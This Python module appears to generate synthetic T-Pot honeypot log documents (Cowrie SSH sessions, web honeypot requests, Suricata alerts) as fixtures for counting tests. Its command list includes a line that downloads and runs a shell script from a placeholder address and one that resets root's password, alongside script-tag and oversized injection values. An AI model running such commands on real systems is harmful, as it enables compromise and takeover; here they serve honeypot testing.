"""Days of T-Pot documents of all types, for counting: three sensors, sessions, logins, commands, alerts.

    week = Week(random.Random(1))
    week.fill(begins, ends, visits=500)      # (index, None, document) triples in week.documents

SPDX-License-Identifier: MIT
"""

import tpot_documents
from tpot_documents import Maker, instant

SENSORS = (("hive-one", "203.0.113.10", "10.0.0.5"), ("sensor-two", "203.0.113.20", "10.0.1.7"),
           ("sensor-three", "2001:db8:77::1", "10.0.2.9"))
USERS = ("root", "admin", "345gs5662d34", "ubuntu", "GET / HTTP/1.1", "x" * 300)
PASSWORDS = ("123456", "admin", "hunter2", "", "Host: 203.0.113.10:2323")
COMMANDS = ("uname -a", "cat /proc/cpuinfo | grep name | wc -l", "cd /tmp; wget http://198.51.100.66/a.sh; sh a.sh",
            'echo "root:geheim99"|chpasswd', "y" * 400)
CLIENTS = ("SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-<script>alert(1)</script>")
REPUTATIONS = ("known attacker", "mass scanner", "tor exit node")
WEB = (("Tanner", "path", "method"), ("Honeyaml", "path", "method"), ("Go-pot", "path", "method"),
       ("H0neytr4p", "request_uri", "request_method"), ("Wordpot", "url", "method"), ("Ipphoney", "http.url", None))
PLACES = (*tpot_documents.PLACES, ("HK", "Hong Kong", 64503, "例 Network"), ("DE", "Berlin", 64504, "Beispiel GmbH"))


def index_of(document):
    return "logstash-" + document["@timestamp"][:10].replace("-", ".")


class Week:
    def __init__(self, random, addresses=400):
        self.random, self.maker, self.documents = random, Maker(random), []
        self.addresses = [(f"198.51.100.{n % 250 + 1}" if n < 250 else f"2001:db8:{n:x}::5", random.choice(PLACES))
                          for n in range(addresses)]

    def write(self, at, kind, address=None, **fields):
        hostname, outside, inside = self.random.choice(SENSORS)
        source, (country, city, asn, organisation) = address or self.random.choice(self.addresses)
        document = {"@timestamp": instant(at), "timestamp": instant(at), "type": kind, "src_ip": source,
                    "t-pot_hostname": hostname, "t-pot_ip_ext": outside, "t-pot_ip_int": inside,
                    "geoip": {"ip": source, "country_code2": country, "city_name": city, "asn": asn,
                              "as_org": organisation}, "path": f"/data/{kind.lower()}/log", **fields}
        if self.random.random() < 0.7:
            document["ip_rep"] = self.random.choice(REPUTATIONS)
        self.documents.append((index_of(document), None, document))
        return document

    def cowrie(self, at):
        """A session: what came of it in as many documents as Cowrie writes."""
        address, session = self.random.choice(self.addresses), self.maker.session()

        def write(eventid, after, **fields):
            self.write(at + after, "Cowrie", address, eventid=f"cowrie.{eventid}", session=session,
                       protocol="ssh", **fields)

        # Newer ones name the port in each document.
        port = {"dest_port": 22} if self.random.random() < 0.5 else {}
        write("session.connect", 0, dest_port=22, src_port=40000)
        write("client.version", 0.1, version=self.random.choice(CLIENTS), **port)
        write("client.kex", 0.2, hassh=tpot_documents.md5(self.random.choice("abc")), **port)
        user, password = self.random.choice(USERS), self.random.choice(PASSWORDS)
        write("login.failed", 1, username=user, password=password, **port)
        if self.random.random() < 0.5:
            write("login.success", 2, username=user, password="e3", **port)
            write("command.input", 3, input=self.random.choice(COMMANDS), **port)
        write("session.closed", 4, duration="4.1", **port)

    def other(self, at, number):
        kind, fields = tpot_documents.BACKGROUND[number % len(tpot_documents.BACKGROUND)]
        if kind != "Honeytrap":
            self.write(at, kind, **(fields(number) if callable(fields) else fields))

    def web(self, at):
        kind, path, method = self.random.choice(WEB)
        fields = {path: self.random.choice(("/", "/login", "/.env", "/?x=<b>"))}
        if method:
            fields[method] = self.random.choice(("GET", "POST"))
        self.write(at, kind, dest_port=self.random.choice((80, 443, 8080)), **fields)

    def alert(self, at):
        self.write(at, "Suricata", event_type="alert", alert={"signature": self.random.choice(("ET SCAN", "ET CVE")),
                   "cve_id": self.random.choice((["CVE-2021-44228", "CVE-2021-45046"], "CVE-2024-1", None))})

    def fill(self, begins, ends, visits):
        for n in range(visits):
            at = begins + (ends - begins) * self.random.random()
            self.random.choice((self.cowrie, self.web, self.alert, lambda t, n=n: self.other(t, n)))(at)
